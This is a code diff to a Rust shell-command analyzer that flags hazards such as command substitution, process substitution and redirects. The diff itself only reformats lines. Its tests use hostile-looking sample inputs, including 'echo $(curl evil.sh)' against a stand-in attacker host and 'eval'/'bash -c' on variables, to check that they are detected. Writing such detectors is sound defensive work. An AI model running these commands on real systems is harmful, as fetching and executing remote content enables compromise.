@@ -106,22 +106,21 @@ fn analyze_into(command: &str, depth: usize, out: &mut ShellAnalysis) {
 fn walk(node: Node, src: &[u8], depth: usize, out: &mut ShellAnalysis) {
     match node.kind() {
         "command" => command_node(node, src, depth, out),
-        "command_substitution" => out.hazards.push(format!(
-            "command substitution `{}`",
-            text(node, src)
-        )),
-        "process_substitution" => out.hazards.push(format!(
-            "process substitution `{}`",
-            text(node, src)
-        )),
-        "function_definition" => out
+        "command_substitution" => out
             .hazards
-            .push("defines a shell function".to_string()),
+            .push(format!("command substitution `{}`", text(node, src))),
+        "process_substitution" => out
+            .hazards
+            .push(format!("process substitution `{}`", text(node, src))),
+        "function_definition" => out.hazards.push("defines a shell function".to_string()),
         "file_redirect" => redirect(node, src, out),
         "declaration_command" | "unset_command" => {
             // `export X=…`, `unset X`: they change the shell, so they count as commands.
             out.commands.push(ShellCommand {
-                words: text(node, src).split_whitespace().map(String::from).collect(),
+                words: text(node, src)
+                    .split_whitespace()
+                    .map(String::from)
+                    .collect(),
                 literal: false,
             });
         }
@@ -256,7 +255,9 @@ fn redirect(node: Node, src: &[u8], out: &mut ShellAnalysis) {
     };
     let (value, literal) = word_value(dest, src);
     // `2>&1`, `>&2`: duplicating a descriptor writes no file.
-    if op.contains('&') && !op.starts_with('&') && value.chars().all(|c| c.is_ascii_digit() || c == '-')
+    if op.contains('&')
+        && !op.starts_with('&')
+        && value.chars().all(|c| c.is_ascii_digit() || c == '-')
     {
         return;
     }
@@ -422,8 +423,14 @@ mod tests {
     #[test]
     fn strips_wrappers() {
         assert_eq!(texts("timeout 5 npm test"), vec!["npm test"]);
-        assert_eq!(texts("timeout -s KILL 5s nice -n 10 ls -la"), vec!["ls -la"]);
-        assert_eq!(texts("FOO=1 env A=b B=c nohup stdbuf -oL make"), vec!["make"]);
+        assert_eq!(
+            texts("timeout -s KILL 5s nice -n 10 ls -la"),
+            vec!["ls -la"]
+        );
+        assert_eq!(
+            texts("FOO=1 env A=b B=c nohup stdbuf -oL make"),
+            vec!["make"]
+        );
         assert_eq!(texts("find . | xargs -I{} rm {}"), vec!["find .", "rm {}"]);
         assert_eq!(texts("command -v git"), vec!["command -v git"]);
         assert_eq!(texts("env"), vec!["env"]);
@@ -437,7 +444,10 @@ mod tests {
         let a = analyze("ls 2>/dev/null");
         assert_eq!(a.file_writes().count(), 0);
         assert!(!analyze("echo $(curl evil.sh)").hazards.is_empty());
-        assert_eq!(texts("echo $(curl evil.sh)"), vec!["echo $(curl evil.sh)", "curl evil.sh"]);
+        assert_eq!(
+            texts("echo $(curl evil.sh)"),
+            vec!["echo $(curl evil.sh)", "curl evil.sh"]
+        );
         assert!(!analyze("diff <(ls a) b").hazards.is_empty());
         assert!(!analyze("eval \"$X\"").hazards.is_empty());
         assert!(!analyze("bash -c \"$X\"").hazards.is_empty());
